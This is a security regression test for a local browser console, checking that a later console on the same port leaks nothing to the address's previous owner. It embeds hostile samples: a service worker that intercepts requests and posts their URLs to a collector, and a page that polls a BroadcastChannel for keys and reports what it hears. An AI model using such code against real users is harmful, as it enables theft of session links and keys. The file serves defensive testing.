/**
 * What the last owner of an address has left in the browser: a service worker, a tab that is still
 * open. A console that is started where another one was, on the same port, owes them nothing.
 *
 * @module
 */

import { deepStrictEqual as deepEqual, notStrictEqual, ok } from "node:assert/strict";
import type { Page } from "playwright-core";
import { browserTest, startBrowser, startConsole } from "../helpers/browser.ts";
import { startDaemon } from "../helpers/daemon.ts";
import { ONE_PROGRAM } from "../helpers/program.ts";
import { until } from "../helpers/until.ts";

/** Tells the collector what it sees of each request, fragments too, and lets none get through. */
const WORKER = `
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {
  if (new URL(event.request.url).origin !== location.origin) return;
  event.respondWith(tell(event.request.url).then(() => new Response("the worker's page")));
});
const tell = (said) => fetch(COLLECTOR, { method: "POST", mode: "no-cors", body: said });
`;

/** Asks for the key as a tab of the console does, again and again, and tells what it hears. */
const PAGE = `<!doctype html><title>stranger</title><script>
const tell = (said) => fetch(COLLECTOR, { method: "POST", mode: "no-cors", body: said });
const channel = new BroadcastChannel("svc-console");
channel.onmessage = ({ data }) => tell(JSON.stringify(data));
setInterval(() => { channel.postMessage({ asks: true }); asked++; }, 20);
addEventListener("hashchange", () => tell(location.hash));
addEventListener("storage", () => tell("storage"));
let asked = 0;
</script>`;

/** A server of another user; `hostname` is the one he listens at. */
function stranger(hostname: string, port: number, collector: string) {
  const fill = (text: string) => text.replaceAll("COLLECTOR", JSON.stringify(collector));
  const stop = new AbortController();
  const { signal } = stop;
  const server = Deno.serve({ hostname, port, signal, onListen() {} }, (request) => {
    const [type, text] = request.url.endsWith("/worker.js")
      ? ["text/javascript", WORKER]
      : ["text/html", PAGE];
    return new Response(fill(text), { headers: { "content-type": type } });
  });
  return {
    async leaves() {
      stop.abort();
      await server.finished;
    },
  };
}

/** Where strangers send what they got. */
function startCollector() {
  const got: string[] = [];
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (request) => {
    got.push(await request.text());
    return new Response();
  });
  const url = `http://127.0.0.1:${server.addr.port}/`;
  return { got, url, [Symbol.asyncDispose]: () => server.shutdown() };
}

/** The kinds of addresses, by what makes the command choose them. */
const KINDS = [
  { kind: "an address of 127.0.0.0/8", env: {} },
  { kind: "a name", env: { WSL_DISTRO_NAME: "Debian" } },
] as const;

for (const { kind, env } of KINDS) {
  browserTest(`${kind}: its last owner gets neither ticket nor key of the next`, async () => {
    await using daemon = await startDaemon(ONE_PROGRAM);
    await using collector = startCollector();
    await using browser = await startBrowser();
    const first = await startConsole(daemon, [], { env });
    const { origin, port, hostname } = new URL(first.link);
    const ours = await browser.open(first.link);
    await ours.getByText("● live").waitFor();
    await first.stop();

    // Another user takes the address, and is seen: by a tab of ours, and by one of his.
    const at = hostname.startsWith("127.") ? hostname : "127.0.0.1";
    const other = stranger(at, Number(port), collector.url);
    const left = await browser.open(origin);
    await ours.reload();
    await left.evaluate(`navigator.serviceWorker.register("/worker.js").then(() =>
      navigator.serviceWorker.ready).then(() => undefined)`);
    await until("a page of the worker", async () => {
      const text = await ours.reload().then(() => ours.textContent("body"));
      return text?.includes("the worker's page") === true ? true : undefined;
    });
    ok(collector.got.includes(`${origin}/`), "the worker sees what is opened there");
    await other.leaves();
    collector.got.length = 0;

    await using next = await startConsole(daemon, ["--port", port], { env });
    notStrictEqual(next.origin, origin);
    const page = await browser.open(next.link);
    await page.getByText("● live").waitFor();
    const asked = () => left.evaluate("asked") as Promise<number>;
    const before = await asked();
    await until("more questions", async () => await asked() > before + 3 ? true : undefined);
    // Its own tabs hear each other, which comes after all of these questions.
    const second = await browser.open(`${next.origin}/deliveries`);
    await second.getByText("● live").waitFor();
    // A link that is pasted where a stranger still is.
    for (const tab of [left, ours]) await opens(tab, await next.nextLink());
    // A browser asks for an icon when it likes, at an address that says nothing; and what the stranger
    // asked on the channel before he left may be told of late.
    const harmless = (one: string) => one.endsWith("/favicon.ico") || one === '{"asks":true}';
    deepEqual(collector.got.filter((one) => !harmless(one)), []);
    for (const tab of browser.context.pages()) await tab.close();
    browser.expects(/./); // of the time between the two consoles
  });
}

async function opens(tab: Page, link: string): Promise<void> {
  await tab.goto(link);
  await tab.getByText("● live").waitFor();
}
